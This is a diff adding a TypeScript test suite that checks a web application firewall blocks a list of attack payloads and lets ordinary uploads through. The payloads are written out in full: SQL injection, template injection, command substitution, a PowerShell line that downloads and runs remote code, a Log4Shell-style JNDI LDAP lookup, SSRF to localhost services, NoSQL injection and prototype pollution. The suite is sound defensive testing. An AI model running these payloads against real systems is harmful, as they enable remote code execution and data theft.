@@ -1209,3 +1209,93 @@ describe('waf API profile: error events, templates with filters, print styles (h
     }
   });
 });
+
+describe('waf API profile: attacks held-out 10 found missed (session 7)', () => {
+  const upload = (content: string, filename = 'notes.txt', type = 'text/plain'): Init => {
+    const b = '----gatehouse10';
+    const body = Buffer.from(
+      `--${b}\r\nContent-Disposition: form-data; name="title"\r\n\r\nnotes\r\n--${b}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${b}--\r\n`,
+    );
+    return {
+      method: 'POST',
+      path: '/v1/imports/events',
+      headers: {
+        ...ua,
+        'content-type': `multipart/form-data; boundary=${b}`,
+        'content-length': String(body.length),
+      },
+      body,
+    };
+  };
+
+  test('payloads in imported text files, URL member names, aggregation stages, $where-style JS, pointer paths', async () => {
+    for (const [init, reason] of [
+      [upload('line 1\n1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)\nline 3'), 'rce'],
+      [upload('line 1\n{{range.constructor("return process")()}}\nline 3'), 'template'],
+      [
+        upload("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"),
+        'template',
+      ],
+      [upload('line 1\n$(sleep 5)\nline 3'), 'rce'],
+      [
+        upload(
+          '& powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"',
+        ),
+        'rce',
+      ],
+      [upload("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.5/e}"), 'template'],
+      [
+        upload(
+          '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/env"/></svg>',
+          'logo.svg',
+          'image/svg+xml',
+        ),
+        'ssrf',
+      ],
+      [post({ metadata: { 'dict://127.0.0.1:11211/stats': 'true' } }), 'ssrf'],
+      [
+        post({
+          pipeline: [{ $lookup: { from: 'users', localField: 'userId', foreignField: '_id', as: 'u' } }],
+        }),
+        'nosql',
+      ],
+      [post({ definition: "traits.plan == 'pro'; return true; var x='" }), 'nosql'],
+      [
+        post(
+          [{ op: 'replace', path: '/constructor/prototype/role', value: 'owner' }],
+          'application/json-patch+json',
+        ),
+        'prototype-pollution',
+      ],
+      [
+        post({
+          body: "Hi, I can't find my order, the number is 5521admin'/**/OR/**/1=1# — can you check? thanks",
+        }),
+        'sqli',
+      ],
+    ] as [Init, string][]) {
+      assert.equal(
+        (await run(api, init)).error?.reason,
+        `waf:${reason}`,
+        JSON.stringify(init?.body?.toString().slice(0, 200)),
+      );
+    }
+  });
+
+  test('ordinary imports, URL-keyed maps of public hosts, pointer paths, prose pass', async () => {
+    for (const init of [
+      upload(
+        'date,amount,note\n2026-01-03,12.50,"Lunch with client, O\'Brien"\n2026-01-04,8.00,sleep well\n',
+      ),
+      post({ redirects: { 'https://example.com/old': 'https://example.com/new' } }),
+      post([{ op: 'replace', path: '/settings/prototype_mode', value: true }], 'application/json-patch+json'),
+      post({ body: "Hi, I can't find my order, the number is 5521 — can you check? thanks" }),
+    ]) {
+      assert.equal(
+        (await run(api, init)).error,
+        undefined,
+        JSON.stringify(init?.body?.toString().slice(0, 200)),
+      );
+    }
+  });
+});
